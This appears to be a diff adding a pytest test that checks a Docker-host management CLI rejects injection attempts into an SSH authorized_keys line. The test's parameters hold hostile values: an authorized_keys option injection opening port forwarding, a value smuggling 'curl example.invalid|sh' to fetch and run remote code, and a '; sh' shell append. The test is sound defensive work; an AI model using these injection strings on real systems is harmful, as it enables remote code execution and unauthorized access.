@@ -216,3 +216,20 @@ def test_a_prune_outweighed_by_other_writes_shows_dockers_count_not_a_negative_s
         "forecast": None,
     }  # fmt: skip
     assert status_row(shown, 60)[3] == "1.2GB"
+
+
+@pytest.mark.parametrize(
+    "option",
+    [
+        ("--docker-host", 'unix:///x",port-forwarding,permitopen="*:*'),
+        ("--docker-host", "unix:///x;curl example.invalid|sh"),
+        ("--guard", "/usr/local/bin/prunehook-guard; sh"),
+    ],
+)
+def test_hosts_add_refuses_what_would_add_to_the_authorized_keys_line(operator, option):
+    refused = add(operator, "--fingerprint", fingerprint_of(operator), *option)
+
+    assert refused.exit_code == 2
+    assert f"Invalid value for '{option[0]}'" in refused.output
+    assert operator.targets.read_text() == EXISTING
+    assert not operator.known_hosts_file.exists()
